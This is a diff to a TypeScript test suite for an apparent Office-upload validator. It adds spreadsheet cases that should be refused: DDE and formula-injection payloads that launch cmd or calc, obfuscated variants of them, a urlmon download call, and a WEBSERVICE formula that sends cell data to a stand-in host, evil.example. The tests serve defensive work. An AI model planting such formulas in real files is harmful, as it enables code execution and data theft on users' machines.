@@ -7,6 +7,10 @@ import { pngOf } from './make-picture.ts'
 import { packedBlanks, zipOf } from './make-zip.ts'
 
 const chart = (target: string) => ({ name: 'ppt/charts/_rels/chart1.xml.rels', content: relationsOf(relation('package', target, false)) })
+const sheetOf = (...cells: string[]) => ({
+  name: 'xl/worksheets/sheet1.xml',
+  content: `${XML}<worksheet><sheetData><row>${cells.map((cell) => `<c>${cell}</c>`).join('')}</row></sheetData></worksheet>`,
+})
 const embedded = (name: string, content: Buffer | string) => () => officeOf('docx', { parts: [{ name, content }] })
 const related = (kind: Office, relations: string) => () => officeOf(kind, { relations })
 
@@ -122,6 +126,45 @@ export const OFFICES: readonly HandedInCase[] = [
   refused('external', 'minutes.docx', 'a link to a file', related('docx', relation('hyperlink', 'file:///c:/windows/x.exe'))),
   refused('field-program', 'minutes.docx', 'a field that starts a program', () =>
     officeOf('docx', { parts: [wordsIn('<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>')] }),
+  ),
+  taken('census.xlsx', 'formulas with bars that are letters', () =>
+    officeOf('xlsx', {
+      parts: [
+        sheetOf(
+          `<f>IF(A1="a|b",SEARCH("RTD(",A2),'Cash|Flow'!A1)</f>`,
+          '<f>SUM(Policies[[#Totals],[Value | Cents]])</f>',
+          '<is><t>=cmd|’ /C calc’!A0 and CALL(me)</t></is>',
+          '<f>_xlfn.CONCAT(A1,&quot;&amp;#124;&quot;)</f>',
+        ),
+        { name: 'xl/sharedStrings.xml', content: `${XML}<sst><si><t>=cmd|' /C calc'!A0</t></si></sst>` },
+      ],
+    }),
+  ),
+  ...[
+    ['a cell that starts a program', `<f>cmd|' /C calc'!A0</f>`],
+    ['the same in other letters', `<x:f t="normal">'cmd'&#x7C;'/C calc'!A0</x:f>`],
+    ['a validation that starts a program', `<formula1>MSEXCEL|'\\..\\calc.exe'!A1</formula1>`],
+    ['a name that starts a program', '<definedName name="x">cmd|x!A1</definedName>'],
+    ['a server of live data', '<f>RTD("evil.server",,"x")</f>'],
+    ['a call of a library', '<f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2,0,0)</f>'],
+    ['a formula behind a mile of blanks', `${' '.repeat(400_000)}<f>cmd${' '.repeat(4_000)}|x!A0</f>`],
+    ['a link of dynamic data exchange', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'],
+  ].map(([what, cell]) => refused('field-program', 'census.xlsx', what ?? '', () => officeOf('xlsx', { parts: [sheetOf(cell ?? '')] }))),
+  refused('field-program', 'census.xlsx', 'the same in a part that does not say what it is', () =>
+    officeOf('xlsx', { parts: [{ ...sheetOf(`<f>cmd|' /C calc'!A0</f>`), name: 'xl/data.bin' }] }),
+  ),
+  refused('xml-entities', 'census.xlsx', 'a formula in disguise', () => officeOf('xlsx', { parts: [sheetOf('<f>cm<!-- -->d|x!A0</f>')] })),
+  refused('xml-entities', 'census.xlsx', 'a sheet in UTF-16 under another name', () =>
+    officeOf('xlsx', { parts: [{ name: 'xl/data.bin', content: Buffer.from('<f>cmd|x!A0</f>', 'utf16le') }] }),
+  ),
+  refused('external', 'census.xlsx', 'a cell that fetches', () =>
+    officeOf('xlsx', { parts: [sheetOf('<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>')] }),
+  ),
+  refused('external', 'census.xlsx', 'a link to another workbook under another name', () =>
+    officeOf('xlsx', {
+      types:
+        '<Override PartName="/xl/theme9.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
+    }),
   ),
   refused('xml-entities', 'minutes.docx', 'entities from elsewhere (XXE)', () =>
     officeOf('docx', {
